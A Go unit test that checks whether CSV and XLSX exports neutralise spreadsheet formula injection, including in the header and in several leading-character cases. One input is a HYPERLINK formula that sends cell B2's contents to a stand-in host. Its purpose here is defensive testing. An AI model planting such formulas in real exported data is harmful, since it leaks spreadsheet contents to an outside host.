package export

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/xuri/excelize/v2"
)

// A company named as a formula is neutralised in CSV and reads back exactly
// as typed, as a string and not a formula, from the workbook.
func TestFormulaInjection(t *testing.T) {
	evil := `=HYPERLINK("http://x.example/?d="&B2,"Open")`
	typed := []string{evil, "+358401234567", "-2+3", "@SUM(A1)", "\tx", "\rx", "1e5", "-0.531", "3.500", "Oy", "12345678901234567890"}
	s := Sheet{ID: "applications", Title: "Hakemukset", Header: []string{"=h"}, Rows: [][]string{typed}, Secret: []bool{false}}

	data, err := CSV(s, ';')
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(bom))))
	r.Comma = ';'
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'" + evil, "'+358401234567", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "1e5", "-0.531", "3.500", "Oy", "12345678901234567890"}
	if recs[0][0] != "'=h" {
		t.Errorf("header %q", recs[0][0])
	}
	if got := Neutralise("\rx"); got != "'\rx" {
		t.Errorf("Neutralise(CR x) = %q", got)
	}
	for i, w := range want {
		if w == "'\rx" {
			continue // encoding/csv with UseCRLF writes a lone CR as nothing; Neutralise is checked above
		}
		if recs[1][i] != w {
			t.Errorf("CSV field %d = %q, want %q", i, recs[1][i], w)
		}
	}

	data, err = XLSX([]Sheet{s})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, v := range typed {
		cell, _ := excelize.CoordinatesToCellName(i+1, 2)
		got, err := f.GetCellValue("Hakemukset", cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		formula, err := f.GetCellFormula("Hakemukset", cell)
		if err != nil {
			t.Fatal(err)
		}
		typ, err := f.GetCellType("Hakemukset", cell)
		if err != nil {
			t.Fatal(err)
		}
		if formula != "" {
			t.Errorf("%s: formula %q", cell, formula)
		}
		numeric := v == "-0.531" || v == "3.500"
		if numeric {
			if typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
				t.Errorf("%s %q: a string cell, want a number", cell, v)
			}
			continue
		}
		if got != v {
			t.Errorf("%s: reads back %q, typed %q (type %v)", cell, got, v, typ)
		}
	}
}
